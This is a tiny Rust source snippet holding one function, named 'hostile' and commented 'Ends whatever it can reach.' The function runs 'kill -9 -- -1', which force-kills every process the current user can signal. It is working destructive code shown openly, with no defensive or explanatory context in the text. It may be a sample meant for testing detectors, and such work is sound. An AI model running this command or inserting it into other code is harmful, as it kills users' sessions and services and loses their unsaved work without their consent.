// Ends whatever it can reach.
fn hostile() {
    let _ = std::process::Command::new("kill").args(["-9", "--", "-1"]).status();
}
